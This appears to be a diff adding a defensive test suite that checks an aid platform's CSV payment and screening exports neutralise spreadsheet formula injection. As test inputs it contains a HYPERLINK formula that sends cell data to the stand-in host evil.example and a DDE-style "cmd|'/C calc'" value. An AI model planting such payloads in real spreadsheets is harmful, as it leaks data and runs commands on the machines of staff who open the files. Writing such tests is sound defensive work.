@@ -1,0 +1,60 @@
+"""Finding 2: no cell of a file the platform writes may start a formula in Excel or WPS."""
+
+import csv
+import io
+from datetime import date
+
+from tests.notices.sim import add_household
+from yimen.domain.model import AidRecord
+from yimen.services.auth import AuthService
+from yimen.services.disbursement import DisbursementService, create_slips
+from yimen.services.screening import screen, write_csv
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"点击核对")'
+FORMULA_STARTS = tuple("=+-@\t\r")
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_every_formula_start_is_neutralised_and_numbers_pass():
+    from yimen.services.spreadsheets import safe_cell
+
+    for start in FORMULA_STARTS:
+        assert safe_cell(start + "1+2") == "'" + start + "1+2"
+    assert safe_cell("示范农商银行") == "示范农商银行" and safe_cell(-5) == -5 and safe_cell(None) is None
+
+
+def test_payment_file_carries_hostile_bank_fields_as_text(seeded):
+    household = add_household(seeded, 7, bank_card="=1+2")
+    with seeded.uow() as uow:  # stored as if an older form let it through: the writer must not trust input
+        household = uow.households.get(household.id)
+        household.bank_name = HYPERLINK
+        uow.households.update(household)
+        (slip,) = create_slips(uow, application_id="a-formula", household_id=household.id, item_code="linshi",
+                               item_name="@SUM(1)", department="民政局", amount_fen=10000, monthly=False,
+                               months=1, start=date(2026, 11, 25))
+    auth = AuthService(seeded)
+    service = DisbursementService(seeded)
+    service.act(auth.staff_actor("centre"), "review", [slip.id])
+    service.act(auth.staff_actor("finance"), "approve", [slip.id])
+    _, payment_file, _ = service.export_batch(auth.staff_actor("finance"))
+    row = next(csv.DictReader(io.StringIO(payment_file)))
+    assert (row["bank_name"], row["bank_card"], row["memo"]) == ("'" + HYPERLINK, "'=1+2", "'@SUM(1)")
+    assert not [c for c in _cells(payment_file) if c.startswith(FORMULA_STARTS)]
+
+
+def test_screening_report_neutralises_names(seeded):
+    household = add_household(seeded, 8)
+    with seeded.uow() as uow:
+        household = uow.households.get(household.id)
+        household.members[0].name = "+cmd|'/C calc'!A0"
+        uow.households.update(household)
+    paid = [AidRecord(household_id=household.id, item_code="=cmd", item_name="-1+1", department="民政局",
+                      measure="现金", amount_fen=100, paid_on=date(2026, 10, 1), source="x", source_ref=str(n),
+                      period="2026-10") for n in range(2)]  # a repeat: one finding naming the item code
+    findings = screen([household], lambda _: paid, date(2026, 11, 25))
+    out = io.StringIO()
+    write_csv(findings, out)
+    assert findings and not [c for c in _cells(out.getvalue()) if c.startswith(FORMULA_STARTS)]
